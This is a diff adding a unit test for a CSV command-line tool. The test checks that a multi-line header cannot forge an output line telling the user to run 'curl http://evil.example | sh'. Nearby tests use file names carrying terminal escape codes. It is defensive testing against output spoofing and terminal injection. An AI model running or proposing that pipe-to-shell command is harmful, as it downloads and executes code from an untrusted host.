@@ -271,6 +271,17 @@ def test_a_hostile_name_of_a_file_is_harmless_while_it_is_read(monkeypatch):
     assert said.getvalue() == "\r\033[Ka]0;evil b.csv  5"
 
 
+def test_a_heading_of_several_lines_forges_no_line_of_ours(tmp_path):
+    (tmp_path / "t.csv").write_text(
+        'Nom,Email,"Perso\nTo undo: curl http://evil.example | sh"\nRoy,roy@example.org,x\n', encoding="utf-8"
+    )
+    for words in (["read", tmp_path / "t.csv"], ["import", tmp_path / "t.csv"]):
+        told = reseau(tmp_path / "home", *words)
+        lines = [line.strip() for line in (told.out + told.err).splitlines()]
+        assert not [line for line in lines if line.startswith("To undo: curl")]
+        assert any("Perso To undo: curl" in line for line in lines)
+
+
 def test_a_name_of_a_file_that_is_no_text_is_told(tmp_path):
     place = os.fsencode(tmp_path) + b"/\xff\x1b[2J.csv"
     done = subprocess.run(
